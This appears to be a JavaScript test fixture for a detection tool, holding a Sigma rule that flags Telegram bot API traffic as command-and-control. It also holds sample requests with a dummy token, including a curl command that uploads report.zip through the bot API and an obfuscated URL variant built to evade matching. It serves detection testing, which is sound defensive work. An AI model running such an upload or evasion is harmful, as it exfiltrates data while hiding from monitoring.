// The first content of the page, unless a link has another.
export const RULE = `title: Telegram bot API
id: 5ad9f5f0-7a3e-4b3e-9b8f-0c6c1c1f4a11
status: experimental
description: A client talks to the bot API of Telegram.
author: tidegate contributors
date: 2026-11-21
references:
    - https://core.telegram.org/bots/api
tags:
    - attack.command-and-control
    - attack.t1102.002
logsource:
    category: proxy
detection:
    selection:
        cs-host: api.telegram.org
        c-uri-stem|startswith: /bot
    condition: selection
falsepositives:
    - Bots that the organisation runs itself
level: medium
`;

/** Tokens of the right form, so that the shipped rules know them too. */
const TOKEN = '123456789:AAExampleExampleExampleExampleExample12';
export const REQUESTS = `https://api.telegram.org/bot${TOKEN}/sendDocument
https://API.telegram.org./%62ot${TOKEN}/getUpdates
curl -d @report.zip https://api.telegram.org/bot${TOKEN}/sendDocument
https://web.telegram.org/k/
https://pastebin.com/raw/Ab12Cd34
`;
